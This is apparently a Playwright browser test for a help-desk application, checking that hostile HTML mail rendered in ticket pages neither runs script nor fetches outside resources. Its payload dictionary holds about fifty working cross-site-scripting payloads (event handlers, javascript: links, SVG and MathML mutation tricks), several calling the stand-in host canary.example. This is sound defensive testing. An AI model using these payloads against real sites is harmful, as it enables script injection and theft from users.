"""Hostile HTML mail, shown in the desk's real pages by a real browser: nothing runs, nothing is fetched (ATTACKS 24).

The corpus is our own: one payload for each way in which markup has come to run in mail readers, and the mutations
by which markup that was harmless as text becomes another tree when it is read a second time.
"""

from typing import Any

import pytest
from playwright.sync_api import Browser

from cast import NOW, PASSWORD, Cast, acting
from mainstay.intake.email import html
from mainstay.tickets.acknowledgement import Request, open_ticket
from mainstay.tickets.messages import Said

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RUN = "window.top.ran=1;window.ran=1;fetch('http://canary.example/')"
# ruff: noqa: E501 - a payload is one line
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in another case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script elsewhere": '<script src="//canary.example/x.js"></script>',
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image, unquoted with slashes": f"<img/src=x/onerror={RUN.split(';')[0]}>",
    "body that loads": f'<body onload="{RUN}">',
    "details that open": f'<details open ontoggle="{RUN}">x</details>',
    "input in focus": f'<input autofocus onfocus="{RUN}">',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "video": f'<video><source onerror="{RUN}"></video>',
    "animation ends": f'<style>@keyframes x{{}}</style><b style="animation:x" onanimationend="{RUN}">x</b>',
    "svg": f'<svg onload="{RUN}"></svg>',
    "svg animates a link": '<svg><a><animate attributeName=href values="javascript:window.top.ran=1"/><text y=9>x</text></a></svg>',
    "svg uses": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.top.ran=1></svg>#x"/></svg>',
    "foreign object": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "frame of words": f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    "frame of script": f'<iframe src="javascript:{RUN}"></iframe>',
    "object": '<object data="data:text/html,<script>top.ran=1</script>"></object>',
    "embed": '<embed src="data:text/html,<script>top.ran=1</script>">',
    "base": '<base href="http://canary.example/"><img src="pixel.gif">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.top.ran=1">',
    "style sheet elsewhere": '<link rel=stylesheet href="//canary.example/x.css"><style>@import "//canary.example/y.css"</style>',
    "style fetches": '<b style="background:url(//canary.example/p.gif)">x</b>',
    "form that sends": '<form action="//canary.example/"><button autofocus>press</button></form>',
    "button elsewhere": '<button formaction="javascript:window.top.ran=1" form=x>x</button>',
    "picture": '<picture><source srcset="//canary.example/p.gif"><img src="//canary.example/q.gif"></picture>',
    "link of script": '<a id=go href="javascript:window.top.ran=1">press</a>',
    "link of script, broken up": '<a href="java&#10;script:window.top.ran=1">press</a><a href="&#1;javascript:window.top.ran=1">press</a>',
    "link of data": '<a href="data:text/html,<script>alert(1)</script>">press</a><a href="vbscript:x">press</a>',
    # read a second time, they are another tree
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN.split(";")[0]}>"></noscript>',
    "title": f'<title><p title="</title><img src=x onerror={RUN.split(";")[0]}>"></title>',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN.split(";")[0]}>"></textarea>',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN.split(";")[0]}>"></xmp>',
    "noembed": f'<noembed><p title="</noembed><img src=x onerror={RUN.split(";")[0]}>"></noembed>',
    "comment": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}"> -->',
    "conditional comment": f'<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![if !vml]><img src=x onerror="{RUN}"><![endif]>',
    "cdata": f'<svg><![CDATA[><img src=x onerror="{RUN}">]]></svg>',
    "math style": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN.split(';')[0]}&gt;\">",
    "math annotation": f'<math><annotation-xml encoding="text/html"><style><img src=x onerror="{RUN}"></style></annotation-xml></math>',
    "form in form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">',
    "svg style": f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN.split(';')[0]}>\">",
    "svg title": f'<svg><title><style></title><img src=x onerror="{RUN}"></style></svg>',
    "template": f'<template><img src=x onerror="{RUN}"></template>',
    "select": f'<select><style></select><img src=x onerror="{RUN}"></style>',
    "table in table": f'<table><td><table><style></table><img src=x onerror="{RUN}"></style>',
    "plaintext": f'<plaintext><img src=x onerror="{RUN}">',
    "attribute with a backtick": f"<img alt=\"``onerror={RUN.split(';')[0]}\" src=x>",
    "attribute that ends early": f'<a title="&quot;><img src=x onerror={RUN.split(";")[0]}>">x</a>',
    "entities twice": f"&lt;img src=x onerror={RUN.split(';')[0]}&gt; &amp;lt;script&amp;gt;",
    "nul": f'<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error="{RUN}">',
    "never closed": f'<img src="x" alt="<script>{RUN}</script',
    "names that clobber": '<form name=body><input name=attributes><input name=innerHTML></form><img name=getElementById>',
    "pictures by cid and data": '<img src="data:image/svg+xml,<svg onload=top.ran=1>"><img src="cid:x&quot; onerror=&quot;top.ran=1">',
}  # fmt: skip


def test_nothing_in_hostile_mail_runs_or_is_fetched__attack_24(
    cast: Cast, site: str, browser: Browser
) -> None:
    pages = {}
    for name, payload in PAYLOADS.items():
        told = payload.replace("\x00", "")  # as the parser hands words on
        said = Said(f"Words {told}", "email", html=html.sanitise(f"<p>Words</p>{payload}<p>End</p>"))
        request = Request(f"{name} {told}"[:900], said, customer=cast.harbourline, contact=cast.priya)
        ticket = open_ticket(request, by=acting(cast.priya), at=NOW)
        pages[name] = (ticket.pk, ticket.messages.get())
    page, away, wrong = browser.new_page(), [], []
    page.on("request", lambda asked: away.append(asked.url) if not asked.url.startswith(site) else None)
    page.on("dialog", lambda one: (wrong.append(f"a dialog: {one.message}"), one.dismiss()))
    page.goto(f"{site}/sign-in")
    page.fill("[name=email]", cast.mara.email)
    page.fill("[name=password]", PASSWORD)
    page.press("[name=password]", "Enter")
    page.wait_for_load_state()
    for name, (number, message) in pages.items():
        addresses = [f"{site}/desk/tickets/{number}"]
        if message.html:
            addresses.append(f"{site}/desk/letters/{message.pk}")
        for address in addresses:
            page.goto(address)
            wrong += _ran(page, f"{name} at {address.removeprefix(site)}")
    page.goto(f"{site}/desk/")
    wrong += _ran(page, "the queue")
    assert wrong == []
    assert [one for one in away if not one.startswith("data:")] == []


def _ran(page: Any, where: str) -> list[str]:
    """Whether anything ran in the page or its frames; links in the frame are pressed, too."""
    found = []
    for frame in page.frames[1:]:
        for link in frame.query_selector_all("a, button, summary")[:5]:
            href = link.get_attribute("href") or ""
            if href.strip().lower().startswith(("javascript", "data", "vbscript")):
                found.append(f"{where}: a link to {href[:40]}")
    if page.evaluate("window.ran === 1"):
        found.append(f"{where}: it ran")
    if page.query_selector("main script:not([src]), main [onerror], main [onload]"):
        found.append(f"{where}: markup of the mail is in the page")
    return found
